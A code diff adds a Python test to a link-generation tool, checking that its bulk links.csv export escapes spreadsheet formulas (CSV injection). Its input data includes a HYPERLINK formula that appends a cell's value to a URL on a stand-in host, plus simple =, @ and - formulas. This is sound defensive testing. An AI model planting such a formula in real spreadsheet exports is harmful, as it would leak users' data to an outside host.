@@ -259,6 +259,25 @@ async def test_bulk_csv_checks_every_row_before_creating_anything(db, telegram, 
     assert "Karataş Muhtarlığı" in listing and "goc" in listing
 
 
+
+async def test_bulk_links_csv_shows_typed_formulas_as_text(db, tmp_path):
+    """links.csv holds the stats codes and is opened in a spreadsheet: a label or mahalle
+    that starts like a formula shows as typed there, and runs nothing (CSV injection)."""
+    hyperlink = '=HYPERLINK("http://x.example/?c="&J2,"Caferağa")'
+    rows = tmp_path / "muhtarliklar.csv"
+    rows.write_text("province,district,mahalle,label\n"
+                    '34,Kadıköy,"' + hyperlink.replace('"', '""') + '",=1+2\n'
+                    "06,,@SUM(A1),-2+3\n", encoding="utf-8")
+    out = tmp_path / "out"
+    await asyncio.to_thread(izdes, db.url, "links", "bulk", str(rows), "--out", str(out),
+                            "--bot-username", "izdes_bot")
+    with (out / "links.csv").open(encoding="utf-8-sig") as table:
+        written = list(csv.DictReader(table))
+    assert [(row["label"], row["mahalle"]) for row in written] == [
+        ("'=1+2", "'" + hyperlink), ("'-2+3", "'@SUM(A1)")]
+    assert not [cell for row in written for cell in row.values()
+                if cell.startswith(("=", "+", "-", "@"))]
+
 def test_poster_text_renders_turkish_and_arabic(tmp_path):
     from admin.links import CreatedLink, check_spec
     from admin.posters.files import write_link_files
